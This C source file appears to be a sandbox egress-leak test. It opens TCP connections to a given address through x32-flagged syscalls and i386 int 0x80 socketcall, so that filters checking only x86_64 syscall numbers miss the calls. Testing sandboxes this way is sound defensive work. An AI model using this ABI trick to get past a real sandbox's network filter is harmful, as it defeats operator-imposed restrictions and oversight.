/*
 * leak_abi — the same socket calls through another syscall ABI, where the
 * x86_64 numbers a filter checks mean something else.
 *   leak_abi x32|i386 IP PORT
 *   x32:  socket/connect with __X32_SYSCALL_BIT set in the number
 *   i386: int $0x80 socketcall(SOCKET) and socketcall(CONNECT), arguments in
 *         memory below 4 GiB (MAP_32BIT)
 */
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include "leak_common.h"

#define X32_BIT 0x40000000L

static long sys3(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}

static long int80(long nr, long a, long b)
{
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
    return ret;
}

int main(int argc, char **argv)
{
    struct sockaddr_storage ss;
    socklen_t len;
    if (argc != 4 || leak_addr(argv[2], argv[3], &ss, &len) != 0 || ss.ss_family != AF_INET) {
        fprintf(stderr, "usage: leak_abi x32|i386 IPv4 PORT\n");
        return 2;
    }
    if (!strcmp(argv[1], "x32")) {
        long fd = sys3(X32_BIT | SYS_socket, AF_INET, SOCK_STREAM, 0);
        if (fd < 0)
            return leak_fail("x32", (int)-fd);
        leak_bound((int)fd);
        long r = sys3(X32_BIT | SYS_connect, fd, (long)&ss, len);
        if (r < 0)
            return leak_fail("x32", (int)-r);
        return leak_finish_tcp("x32", (int)fd);
    }
    if (!strcmp(argv[1], "i386")) {
        /* socketcall = 102 on i386; SYS_SOCKET 1, SYS_CONNECT 3. */
        unsigned char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (low == MAP_FAILED)
            return leak_fail("i386", errno);
        uint32_t *args = (uint32_t *)low;
        memcpy(low + 64, &ss, sizeof(struct sockaddr_in));
        args[0] = AF_INET;
        args[1] = SOCK_STREAM;
        args[2] = 0;
        long fd = int80(102, 1, (long)(uintptr_t)args);
        if (fd < 0)
            return leak_fail("i386", (int)-fd);
        leak_bound((int)fd);
        args[0] = (uint32_t)fd;
        args[1] = (uint32_t)(uintptr_t)(low + 64);
        args[2] = sizeof(struct sockaddr_in);
        long r = int80(102, 3, (long)(uintptr_t)args);
        if (r < 0)
            return leak_fail("i386", (int)-r);
        return leak_finish_tcp("i386", (int)fd);
    }
    fprintf(stderr, "leak_abi: unknown mode %s\n", argv[1]);
    return 2;
}
